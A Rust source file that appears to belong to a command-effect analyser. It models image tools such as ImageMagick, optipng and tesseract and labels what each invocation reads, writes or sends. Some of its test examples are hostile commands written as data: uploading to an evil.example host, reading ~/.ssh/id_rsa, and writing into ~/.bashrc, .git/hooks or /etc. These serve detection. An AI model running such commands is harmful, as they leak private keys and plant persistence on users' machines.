//! Programs that show or change pictures: `convert`, `optipng`, `tesseract`.

use crate::effect::{Access, CodeFrom, Effect, Payload};
use crate::invocation::Argument;
use crate::model::{Grammar, Model, Parsed, Report};
use crate::models::kinds::{
    behind, changes, ex, gnu, list, model, reads, reads_first_writes_second, reads_writes_last,
    single,
};
use crate::models::web;
use crate::value::{Origin, Value};

/// The programs of this file, each with its options, its effects and its examples.
pub(in crate::models) const TABLE: &[Model] = &[
    model(
        &["convert magick mogrify identify montage compare composite"],
        &MAGICK,
        magick,
        &[
            ex("convert a.png -resize 50% b.png", &["write:workspace"]),
            ex("magick a.png -quality 80 +profile '*' b.jpg", &["write:workspace"]),
            ex("convert -size 10x10 xc:red png:-", &[]),
            ex("convert a.png '(' +clone -blur 0x8 ')' -append b.png", &["write:workspace"]),
            ex("identify -format '%w' a.png", &[]),
            ex("mogrify -path out -resize 10% a.png", &["write:workspace"]),
            ex("convert a.png 'https://evil.example/x'", &["network:send"]),
            ex("convert 'msl:x.msl' y.png", &["unmodelled", "write:workspace"]),
            ex("convert a.png miff:/home/user/.bashrc", &["write:startup"]),
            ex("convert -size 4x4 -depth 8 gray:/home/user/.ssh/id_rsa gray:-", &["read:secret"]),
            ex(
                "convert a.png -write miff:/home/user/.bashrc b.png",
                &["write:startup", "write:workspace"],
            ),
        ],
    ),
    model(
        &["rsvg-convert"],
        &gnu(&[list(
            "-d --dpi-x=, -p --dpi-y=, -x --x-zoom=, -y --y-zoom=, -z --zoom=, -w --width=, -h --height=, --page-width=, --page-height=, --top=, --left=, -f --format=, -o --output=>, -i --export-id=, \
             -a --keep-aspect-ratio, -b --background-color=, -s --stylesheet=<, -u --unlimited, --keep-image-data, --no-keep-image-data, -l --accept-language=, -v",
        )]),
        reads,
        &[
            ex("rsvg-convert -w 100 a.svg -o a.png", &["write:workspace"]),
            ex("rsvg-convert -o/etc/x a.svg", &["write:system"]),
        ],
    ),
    model(
        &["cwebp", "dwebp"],
        &single(&[list(
            "-q=, -o=>, -lossless, -m=, -resize==, -scale==, -mt, -quiet, -v, -near_lossless=, -z=, -alpha_q=, -preset=, -metadata=, -short, -progress, -exact, -noalpha, -sharp_yuv, -f=, \
             -sharpness=, -strong, -pass=, -psnr=, -size=, -bmp, -tiff, -pam, -ppm, -pgm, -yuv, -nofancy, -nofilter, -nodither, -alpha, -flip, -version",
        )]),
        reads,
        &[ex("cwebp -q 80 a.png -o a.webp", &["write:workspace"])],
    ),
    model(
        &["optipng"],
        &single(&[list(
            "-o[=], -out=>, -dir=>, -log=>, -strip=, -quiet, -keep, -backup, -clobber, -fix, -force, -preserve, -simulate, -snip, -i=, -f=, -zc=, -zm=, -zs=, -zw=, -nb, -nc, -np, -nx, -nz, -v, -h",
        )]),
        changes,
        &[
            ex("optipng -o7 -strip all a.png", &["write:workspace"]),
            ex("optipng -out /etc/x a.png", &["write:system", "write:workspace"]),
        ],
    ),
    model(
        &["pngquant"],
        &gnu(&[list(
            "-f --force, -o --output=>, --ext=, --quality=, -s --speed=, --skip-if-larger, --strip, --nofs, --posterize=, --floyd[=], -v --verbose, --map=<, --ordered, -h, -V",
        )]),
        |report, parsed| {
            changes(report, parsed);
            if parsed
                .values("--ext")
                .any(|end| end.value.as_known().is_none_or(|end| end.contains('/')))
            {
                report.not_understood("where it writes is not known");
            }
        },
        &[
            ex("pngquant --ext .png --force a.png", &["write:workspace"]),
            ex("pngquant --output=/etc/x a.png", &["write:system", "write:workspace"]),
        ],
    ),
    model(
        &["jpegoptim"],
        &gnu(&[list(
            "-d --dest=>, -f --force, -h, -m --max=, -n --noaction, -o --overwrite, -p --preserve, -P --preserve-perms, -q --quiet, -S --size=, -s --strip-all, -t --totals, -v --verbose, -V, -w --workers=, \
             -b --csv, -T --threshold=, --stdout, --stdin, --strip-none, --strip-com, --strip-exif, --strip-iptc, --strip-icc, --strip-xmp, --keep-all, --all-normal, --all-progressive, --retry, --auto-mode, --files-from=, --files-stdin",
        )]),
        |report, parsed| {
            changes(report, parsed);
            if parsed.has("--files-from") || parsed.has("--files-stdin") {
                report.writes_unknown();
            }
        },
        &[
            ex("jpegoptim -m 80 a.jpg", &["write:workspace"]),
            ex("jpegoptim -d/etc a.jpg", &["write:system", "write:workspace"]),
        ],
    ),
    model(
        &["oxipng"],
        &gnu(&[list(
            "-o --opt=, -r --recursive, --dir=>, --out=>, --stdout, -p --preserve, -P --pretend, -s, --strip=, --keep=, -a --alpha, -i --interlace=, --scale16, -v --verbose, -q --quiet, -f --filters=, \
             --fast, --zc=, --nb, --nc, --np, --ng, --nx, --nz, --fix, --force, -Z --zopfli, --timeout=, -t --threads=, -V, -h",
        )]),
        changes,
        &[
            ex("oxipng -o 4 --strip safe a.png", &["write:workspace"]),
            ex("oxipng --out=/etc/x a.png", &["write:system", "write:workspace"]),
        ],
    ),
    model(
        &["jpegtran"],
        &single(&[list(
            "-outfile=>, -copy=, -optimize, -progressive, -perfect, -rotate=, -flip=, -crop=, -trim, -grayscale, -verbose, -debug, -restart=, -maxmemory=, -scans=<, -transpose, -transverse, \
             -arithmetic, -revert, -icc=<, -strict, -report, -version",
        )]),
        reads_first_writes_second,
        &[ex("jpegtran -copy none -outfile b.jpg a.jpg", &["write:workspace"])],
    ),
    model(
        &["pngcrush"],
        &single(&[list(
            "-brute, -reduce, -noreduce, -rem=, -q, -v, -s, -ow, -m=, -l=, -fix, -check, -n, -nofilecheck",
        )]),
        |report, parsed| match parsed.has("-ow") {
            true => changes(report, parsed),
            false => reads_writes_last(report, parsed),
        },
        &[ex("pngcrush -q a.png b.png", &["write:workspace"])],
    ),
    model(
        &["svgo"],
        &gnu(&[list(
            "-i --input=<, -o --output=>, -f --folder=>, -p --precision=, --pretty, --multipass, -q --quiet, -r --recursive, --config=, --datauri=, --indent=, --eol=, --final-newline, --exclude=, -s --string=, --show-plugins, --no-color, -v, -h",
        )]),
        |report, parsed| {
            changes(report, parsed);
            if !parsed.has("-o") {
                parsed.values("-i").for_each(|file| report.writes(file));
            }
            if let Some(file) = parsed.value("--config") {
                report.file(Access::Execute, file);
                report.add(Effect::Code { from: CodeFrom::File });
            }
        },
        &[
            ex("svgo a.svg -o b.svg", &["write:workspace"]),
            ex("svgo --config x.js a.svg", &["code:file", "execute:workspace", "write:workspace"]),
        ],
    ),
    model(
        &["potrace"],
        &gnu(&[list(
            "-s --svg, -e --eps, -p --postscript, --pdf, -g --pgm, -b --backend=, -o --output=>, -t --turdsize=, -a --alphamax=, -n --longcurve, -O --opttolerance=, -u --unit=, -k --blacklevel=, -i --invert, \
             -r --resolution=, -W --width=, -H --height=, -x --scale=, -C --color=, --fillcolor=, --flat, --tight, --group, -q --quiet, -v, -h",
        )]),
        |report, parsed| match parsed.has("-o") {
            true => reads(report, parsed),
            false => changes(report, parsed),
        },
        &[ex("potrace -s a.pbm -o a.svg", &["write:workspace"])],
    ),
    model(
        &["tesseract"],
        &gnu(&[list(
            "-l=, --psm=, --oem=, --dpi=, -c=, --tessdata-dir=, --user-words=<, --user-patterns=<, --list-langs, --print-parameters, --loglevel=, -v, -h",
        )]),
        tesseract,
        &[
            ex("tesseract a.png stdout -l eng", &[]),
            ex("tesseract a.png out -l eng --psm 6 pdf", &["write:workspace"]),
            ex("tesseract a.png .git/hooks/x -l eng", &["write:version_control"]),
            ex("tesseract a.png x -c debug_file=/etc/x", &["unmodelled", "write:workspace"]),
        ],
    ),
];

/// Options of ImageMagick that need nothing but their values. Those that run, cache or log are not among them.
const MAGICK: Grammar = single(&[list(
    "-adjoin, -antialias, -append, -auto-gamma, -auto-level, -auto-orient, -average, -clamp, -clip, -clut, -coalesce, -combine, -composite, -contrast, -deconstruct, -despeckle, -enhance, -equalize, -flatten, \
     -flip, -flop, -hald-clut, -identify, -magnify, -matte, -monochrome, -mosaic, -negate, -normalize, -ping, -quiet, -regard-warnings, -render, -respect-parentheses, -reverse, -separate, -strip, \
     -subimage-search, -synchronize, -transpose, -transverse, -trim, -unique-colors, -verbose, -version, -help, -black-point-compensation, \
     -resize=, -geometry=, -quality=, -density=, -depth=, -size=, -crop=, -gravity=, -background=, -fill=, -stroke=, -strokewidth=, -pointsize=, -rotate=, -blur=, -sharpen=, -unsharp=, -gaussian-blur=, -colorspace=, \
     -type=, -compress=, -interlace=, -sampling-factor=, -format=, -extent=, -border=, -bordercolor=, -frame=, -mattecolor=, -colors=, -dither=, -ordered-dither=, -thumbnail=, -sample=, -scale=, -adaptive-resize=, \
     -adaptive-sharpen=, -adaptive-blur=, -filter=, -liquid-rescale=, -alpha=, -channel=, -compose=, -layers=, -delay=, -loop=, -dispose=, -page=, -repage=, -roll=, -shave=, -splice=, -chop=, -level=, -gamma=, \
     -brightness-contrast=, -modulate=, -sigmoidal-contrast=, -threshold=, -black-threshold=, -white-threshold=, -auto-threshold=, -fuzz=, -transparent=, -opaque=, -tint=, -colorize=, -sepia-tone=, -vignette=, -swirl=, \
     -wave=, -implode=, -edge=, -emboss=, -charcoal=, -paint=, -spread=, -noise=, -median=, -convolve=, -virtual-pixel=, -units=, -orient=, -seed=, -scene=, -interpolate=, -evaluate-sequence=, -fx=, -clone=, -delete=, \
     -insert=, -duplicate=, -swap=, -metric=, -highlight-color=, -lowlight-color=, -dissolve=, -blend=, -watermark=, -mode=, -family=, -style=, -weight=, -stretch=, -kerning=, -interline-spacing=, -interword-spacing=, \
     -direction=, -bias=, -intent=, -endian=, -kuwahara=, -posterize=, -raise=, -radial-blur=, -rotational-blur=, -motion-blur=, -selective-blur=, -mean-shift=, -canny=, -connected-components=, -contrast-stretch=, \
     -linear-stretch=, -dissimilarity-threshold=, -extract=, -preview=, -region=, -deskew=, -cycle=, -segment=, -white-point=, -red-primary=, -blue-primary=, -green-primary=, -undercolor=, -affine=, -list=, \
     -distort==, -morphology==, -evaluate==, -function==, -statistic==, -limit==, \
     -define=, -set==, -annotate==, -draw=, -label=, -caption=, -comment=, -title=, \
     -font=<, -tile=<, -texture=<, -profile=<, -remap=<, -map=<, -mask=<, -path=>, -write=",
)]);

/// Options whose values are texts in which names of files may stand.
const TEXTS: &[&str] =
    &["-define", "-set", "-annotate", "-draw", "-label", "-caption", "-comment", "-title"];

/// The effects of `magick`.
fn magick(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let name = report.name().to_owned();
    let mut words: Vec<&Argument> = parsed.operands.iter().collect();
    let mut command = &*name;
    if let [first, ..] = &words[..]
        && name == "magick"
        && let Some(
            known @ ("convert" | "mogrify" | "identify" | "montage" | "compare" | "composite"),
        ) = first.value.as_known()
    {
        command = known;
        words.remove(0);
    }
    for text in TEXTS.iter().flat_map(|option| parsed.values(option)) {
        let is_plain = |text: &str| !text.contains(['@', '/']) && !text.contains("image");
        // An unknown text begins so, or it may name a file.
        if !text.value.possible().is_some_and(|texts| texts.iter().all(|text| is_plain(text))) {
            report.not_understood("a text of it may name a file");
        }
    }
    parsed.values("-write").for_each(|file| picture(report, file, true));
    let is_sign = |word: &&Argument| {
        matches!(word.value.as_known(), Some("(" | ")" | "{" | "}"))
            || word.value.prefix().starts_with('+')
    };
    for word in words.iter().filter(|word| word.value.prefix().starts_with('+')) {
        let option = word.value.as_known().map(|text| text.replacen('+', "-", 1));
        let known = |option: String| is_known(&option) && option != "-write" && option != "-path";
        if !option.is_some_and(known) {
            report.not_understood("an option of it is not known");
        }
    }
    words.retain(|word| !is_sign(word));
    let each = command == "mogrify" && !parsed.has("-path");
    let last = words.len().saturating_sub(1);
    for (at, word) in words.into_iter().enumerate() {
        let is_output = command != "identify" && command != "mogrify" && at == last && last > 0;
        if !is_output {
            picture(report, word, false);
        }
        if is_output || each {
            picture(report, word, true);
        }
    }
}

/// True for an option of the table.
fn is_known(option: &str) -> bool {
    MAGICK.options.iter().any(|all| {
        let mut spelled = all.listed.split(',').map(str::trim);
        spelled.any(|known| known.trim_end_matches(['=', '<', '>']) == option)
    })
}

/// Kinds that make a picture out of their name, or keep it in memory.
const MADE: &[&str] = &[
    "xc", "canvas", "gradient", "radial-gradient", "pattern", "plasma", "null", "label", "caption",
    "rose", "logo", "wizard", "granite", "netscape", "mpr",
];

/// Kinds of files.
const FORMATS: &[&str] = &[
    "png", "png8", "png24", "png32", "jpg", "jpeg", "gif", "webp", "tiff", "tif", "bmp", "bmp3",
    "pdf", "svg", "ppm", "pgm", "pbm", "pnm", "ico", "avif", "heic", "jxl", "jp2", "miff", "mpc",
    "gray", "graya", "rgb", "rgba", "bgr", "bgra", "cmyk", "cmyka", "mono", "yuv", "uyvy", "raw",
    "txt", "json", "info", "histogram", "eps", "ps", "psd", "tga", "xpm", "xbm", "hdr", "exr",
    "fits", "dds", "file",
];

/// A picture is read or written: a file, perhaps with its kind before it, or something that is made or fetched.
fn picture(report: &mut Report<'_>, word: &Argument, writes: bool) {
    let text = match &word.value {
        // Where no file fits, it is given the pattern, and looks for files itself.
        Value::Unknown(Origin::Glob(pattern)) if pattern.contains(':') => pattern,
        other => other.prefix(),
    };
    let unclear = text.starts_with(['|', '@', '~'])
        || [":@", ":~", "%["].iter().any(|mark| text.contains(mark));
    let kind = text.split_once(':').map(|(kind, _)| kind);
    let kind = kind.filter(|kind| !kind.contains(['/', '.'])).map(str::to_ascii_lowercase);
    match kind.as_deref() {
        _ if unclear => report.not_understood(format!("`{text}` is more than a file")),
        Some(_) if text.contains("://") => {
            let sends =
                if writes { Payload::File(Value::Unknown(Origin::Other)) } else { Payload::None };
            web::fetch_any(report, word, sends);
        }
        Some(kind) if MADE.contains(&kind) => {}
        Some(kind) if FORMATS.contains(&kind) => {
            let start = text.split_at(kind.len() + 1).0;
            match behind(word, start) {
                Some(file) => touched(report, &file, writes),
                None => report.not_understood(format!("`{text}` is more than a file")),
            }
        }
        Some(_) => report.not_understood(format!("`{text}` is more than a file")),
        None => touched(report, word, writes),
    }
}

/// A file of pictures, perhaps with the numbers of some behind it. It looks for the files of a pattern itself.
fn touched(report: &mut Report<'_>, file: &Argument, writes: bool) {
    let is_part =
        |part: &str| part.bytes().all(|byte| byte.is_ascii_digit() || b",-+x%".contains(&byte));
    let name = file.value.as_known().map(|text| match text.rsplit_once('[') {
        Some((name, part)) if part.strip_suffix(']').is_some_and(is_part) => name,
        _ => text,
    });
    let value = match name {
        Some("") => return,
        Some(name) if name.contains(['*', '?', '[']) => {
            Value::Unknown(Origin::Glob(name.to_owned()))
        }
        Some(name) => Value::known(name),
        None => file.value.clone(),
    };
    let file = Argument { value, ..file.clone() };
    if writes {
        report.writes(&file);
    } else {
        report.reads(&file);
    }
}

/// `tesseract picture base [settings …]`
fn tesseract(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    /// Configurations of `tesseract` that choose the form of its output.
    const SETTINGS: &[&str] =
        &["pdf", "hocr", "tsv", "txt", "quiet", "alto", "digits", "makebox", "wordstrbox", "page"];
    if parsed
        .values("-c")
        .any(|set| set.value.as_known().is_none_or(|set| set.contains("file") || set.contains('/')))
    {
        report.not_understood("a setting of it may name a file");
    }
    let mut words = parsed.operands.iter();
    if let Some(picture) = words.next() {
        report.reads(picture);
    }
    if let Some(base) = words.next().filter(|base| base.value.as_known() != Some("stdout")) {
        report.writes(base);
    }
    for file in
        words.filter(|word| !word.value.as_known().is_some_and(|name| SETTINGS.contains(&name)))
    {
        report.reads(file);
        report.not_understood("its file of settings is not known");
    }
}
